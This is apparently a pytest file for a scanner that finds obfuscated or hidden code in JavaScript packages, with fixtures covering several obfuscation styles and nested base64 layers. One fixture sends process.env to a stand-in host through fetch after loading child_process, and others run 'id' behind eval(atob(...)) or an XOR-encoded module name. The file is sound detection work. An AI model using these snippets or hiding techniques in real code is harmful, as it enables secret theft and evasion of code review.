"""How code is hidden is told, and what lies under an encoding is read."""

from __future__ import annotations

import base64

import pytest

from pratique.releases.javascript.fold import from_base64, parse_int, unescaped
from tests.unit.releases.javascript.test_capabilities import told

HEX = "".join(f"var _0x{number:05x} = _0x{number:05x} + _0x{number + 1:05x};" for number in range(0x1A000, 0x1A020))
STRINGS = ", ".join(f"'word{number}'" for number in range(20))
ROTATED = (
    f"function a0() {{ const l = [{STRINGS}]; a0 = function () {{ return l; }}; return a0(); }}"
    "(function (b, c) { const d = b(); while (!![]) { try { const e = parseInt(f(0x1)) / 1; if (e === c) break;"
    " else d['push'](d['shift']()); } catch (g) { d['push'](d['shift']()); } } }(a0, 0x1));"
    "f(0x1, 'k'); f(0x2, 'k'); f(0x3, 'k'); f(0x4, 'k'); f(0x5, 'k');"
)

FORMS = {
    "hexadecimal names": (HEX, "obfuscation.names", {}),
    "strings that rotate": (ROTATED, "obfuscation.string-array", {"strings": 20}),
    "strings by number": (
        f"var q = [{STRINGS}];" + "".join(f"z(0x{number:x});" for number in range(16)),
        "obfuscation.string-array",
        {},
    ),
    "signs": ("[][(![]+[])" + "[+[]]+([![]]+[][[]])" * 40 + "]", "obfuscation.form", {"form": "signs"}),
    "packed": ("eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))", "obfuscation.form", {"form": "packed"}),
    "characters": (
        "x = String.fromCharCode(" + ",".join(str(number) for number in range(40, 90)) + ")",
        "obfuscation.form",
        {"form": "character-codes"},
    ),
    "escapes": ("x = '" + "\\x72\\x65\\x71\\x75\\x69\\x72\\x65" * 8 + "'", "obfuscation.form", {"form": "escapes"}),
}  # fmt: skip


@pytest.mark.parametrize(("text", "kind", "expected"), FORMS.values(), ids=FORMS)
def test_form(text: str, kind: str, expected: dict[str, object]) -> None:
    found = [dict(one.attributes) for one in told(text) if one.kind == kind]
    assert any(expected.items() <= one.items() for one in found), told(text)


PLAIN = {
    "list of words": f"var words = [{STRINGS}]; function f(n) {{ return words[n] }} f(1); f(2);",
    "modules by number": "".join(f"var a{number} = r({number});" for number in range(40)) + f"var w = [{STRINGS}]",
    "digests": "".join(f"'sha512-{base64.b64encode(bytes([number]) * 64).decode()}'," for number in range(65, 80)),
    "long path": "'" + "node_modules/some-package/dist/lib/another/file/that/is/deep/index" * 2 + "'",
    "unicode classes": "/[\\u0041-\\u005A\\u0061-\\u007A\\u00AA\\u00B5]/",
    "colours": "var c = [" + ",".join(f"'#{number:06x}'" for number in range(200)) + "]",
}


@pytest.mark.parametrize("text", PLAIN.values(), ids=PLAIN)
def test_plain_text_is_not_called_hidden(text: str) -> None:
    assert [one for one in told(text) if one.kind.startswith("obfuscation")] == []


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def test_what_lies_under_an_encoding_is_read_as_code() -> None:
    inner = "const c = require('child_process'); c.exec('whoami'); fetch('https://c.example', {body: JSON.stringify(process.env)})"
    found = told(f"eval(atob('{encoded(inner)}'))")
    layers = {(one.kind, one.attributes["layer"], one.attributes.get("encoding")) for one in found}
    assert ("capability.process", 1, "base64") in layers
    assert ("chain.secret-to-network", 1, "base64") in layers
    assert all(one.line == 1 for one in found)
    literal = next(one for one in found if one.kind == "obfuscation.literal")
    assert literal.attributes["runs"] is True
    assert str(literal.attributes["decoded"]).startswith("const c = require('child_process')")


def test_layers_lie_in_each_other_to_a_depth() -> None:
    text = "require('child_process').exec('id')"
    for _ in range(3):
        text = f"eval(atob('{encoded(text)}'))"
    assert max(int(one.attributes["layer"]) for one in told(text)) == 3
    for _ in range(6):
        text = f"eval(atob('{encoded(text)}'))"
    assert max(int(one.attributes["layer"]) for one in told(text)) <= 4


def test_the_name_of_a_module_that_had_to_be_decoded_is_shown() -> None:
    text = (
        "const parts = ['==wczV2Yvx', 'ycGZul3bWF2d'];\n"
        "const key = 'OrDeR';\n"
        "function mix(x, k) { const n = k.split('').map(Number); return x.split('').map((c, i) => {"
        " const a = c.charCodeAt(0); return String.fromCharCode(a ^ n[i % n.length] ^ 3) }).join('') }\n"
        "function open(x, k) { let r = x.split('').reverse().join('').replace('_', '=');"
        " return mix(Buffer.from(r, 'base64').toString('utf8'), k) }\n"
        "const m = require(open(made, key));\n"
    )
    wanted = "child_process"
    mixed = "".join(chr(ord(char) ^ 3) for char in wanted)
    made = encoded(mixed)[::-1].replace("=", "_")
    found = told(text.replace("open(made, key)", f"open('{made}', key)") + "m.exec('id')")
    assert [one.attributes["decoded"] for one in found if one.kind == "obfuscation.literal"] == [wanted]
    assert [one.attributes["api"] for one in found if one.kind == "capability.process"] == ["child_process.exec"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (r"\x41\u0042\u{43}\n\0\103", "AB" + "C\n\0C"),
        (r"\\x41\'", "\\x41'"),
        ("plain", "plain"),
        (r"\u{110000}", "\ufffd"),
    ],
)
def test_escapes(text: str, expected: str) -> None:
    assert unescaped(text) == expected


def test_numbers_and_base64_as_javascript_reads_them() -> None:
    assert parse_int("0x1f", 0) == 31
    assert parse_int(" 12abc", 10) == 12
    assert parse_int("zz", 36) == 35 * 36 + 35
    assert parse_int("x", 10) is None
    assert from_base64("aGk") == b"hi"
    assert from_base64("_-8=") == b"\xff\xef"
    assert from_base64("no!") is None
